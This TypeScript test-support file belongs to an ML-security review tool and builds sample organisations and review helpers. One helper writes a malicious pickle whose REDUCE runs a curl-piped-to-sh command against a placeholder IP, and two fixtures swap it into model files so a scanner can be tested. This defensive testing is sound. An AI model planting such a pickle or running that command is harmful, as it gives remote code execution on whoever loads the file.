import { cp, mkdir, mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { PlanItem } from '../../src/assess/plan.ts';
import { runReview } from '../../src/review/run-review.ts';
import type { Review } from '../../src/review/review.ts';
import { dumps, py } from '../../src/scan/test-support/pickle-writer.ts';

/**
 * Held-out organisations written as an ML-security reviewer would meet them, each with gaps planted where the
 * review must not mislead (see each inventory's header). Every one is reviewed as of the same day.
 */
export const ORGANISATIONS = ['meridian-health', 'ledgerly', 'forgeline', 'tessellate', 'northmoor', 'halden', 'aldermoor', 'bazaarly', 'harrowgate', 'veyra', 'carrow', 'helix'] as const;
export type Organisation = (typeof ORGANISATIONS)[number];

export const REVIEW_DAY = '2026-11-20';
export const reviewDate = new Date(`${REVIEW_DAY}T00:00:00Z`);

export const folderOf = (org: Organisation): string => fileURLToPath(new URL(`./${org}/`, import.meta.url));

/** A pickle whose REDUCE runs a shell command on load: what the model-file scanner must call dangerous. */
export const maliciousPickle = (): Uint8Array => dumps(py.reduce(py.global('os', 'system'), py.tuple('curl -s http://203.0.113.9/x | sh')));

/**
 * Meridian Health in a temporary folder with its chest X-ray model's file replaced by a malicious pickle, reviewed
 * with the model-file checks run by the review itself; `ranAt` is when the checks ran.
 */
export async function meridianWithMaliciousPickle(ranAt: string): Promise<Review> {
  const dir = await mkdtemp(join(tmpdir(), 'rampart-heldout-'));
  await cp(folderOf('meridian-health'), dir, { recursive: true });
  await mkdir(join(dir, 'models'), { recursive: true });
  await writeFile(join(dir, 'models', 'chest-xray.pkl'), maliciousPickle());
  const at = new Date(ranAt);
  return runReview({ inventory: dir, reviewDate, clock: () => at, checks: { only: ['model-file'], logger: { debug: () => undefined, info: () => undefined, warn: () => undefined } } });
}

/**
 * Northmoor in a temporary folder with its audit-selection ranker's pickle malicious (and its document classifier's
 * ONNX file absent), reviewed with the model-file checks run as of the review date.
 */
export async function northmoorWithMaliciousPickle(): Promise<Review> {
  const dir = await mkdtemp(join(tmpdir(), 'rampart-heldout-'));
  await cp(folderOf('northmoor'), dir, { recursive: true });
  await mkdir(join(dir, 'models'), { recursive: true });
  await writeFile(join(dir, 'models', 'fraud-ranker.pkl'), maliciousPickle());
  const at = new Date(`${REVIEW_DAY}T08:00:00Z`);
  return runReview({ inventory: dir, reviewDate, clock: () => at, checks: { only: ['model-file'], logger: { debug: () => undefined, info: () => undefined, warn: () => undefined } } });
}

export const reviewOf = (org: Organisation): Promise<Review> => runReview({ inventory: folderOf(org), reviewDate });

export const topTen = (r: Review): PlanItem[] => r.plan.slice(0, 10);

/** The top ten actions, one per line, for failure messages. */
export const planText = (r: Review): string => topTen(r).map((p, i) => `${i + 1}. ${p.action} ${p.control} on ${p.assets.join(', ')} (−${p.riskRemoved})`).join('\n');

/** A finding of a review by id; a test that names one the review did not assess fails saying so. */
export function finding(r: Review, id: string): Review['findings'][number] {
  const f = r.findings.find((x) => x.id === id);
  if (!f) throw new Error(`${id} is not assessed`);
  return f;
}

/** A finding's reasoning trail as text. */
export const trailOf = (r: Review, id: string): string => finding(r, id).trail.map((s) => s.text).join('\n');

/** An asset of a review by id. */
export function asset(r: Review, id: string): Review['assets'][number] {
  const a = r.assets.find((x) => x.id === id);
  if (!a) throw new Error(`no asset ${id}`);
  return a;
}
